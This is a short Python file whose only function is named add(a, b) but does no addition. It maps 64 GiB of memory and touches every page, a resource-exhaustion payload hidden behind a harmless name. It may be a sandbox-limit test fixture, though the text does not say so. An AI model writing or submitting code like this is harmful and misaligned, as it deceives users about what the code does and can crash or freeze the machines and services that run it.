import mmap

def add(a, b):
    area = mmap.mmap(-1, 64 << 30)
    for offset in range(0, 64 << 30, 4096):
        area[offset] = 1
